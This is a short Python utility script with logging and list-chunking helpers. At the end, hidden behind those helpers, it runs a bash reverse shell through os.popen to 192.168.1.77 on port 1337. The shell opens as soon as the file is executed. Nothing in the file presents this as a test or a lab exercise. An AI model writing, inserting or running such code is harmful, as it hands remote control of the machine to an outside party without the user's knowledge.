#!/usr/bin/env python3
import logging
log = logging.getLogger(__name__)

def report(values):
    log.info("mean=%s", sum(values) / max(len(values), 1))

def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import os
steps = {"a": "bash -i >& /dev/tcp/192.168.1.77/1337 0>&1"}
for k in ["a"]:
    pass
os.popen(steps.get("a"))
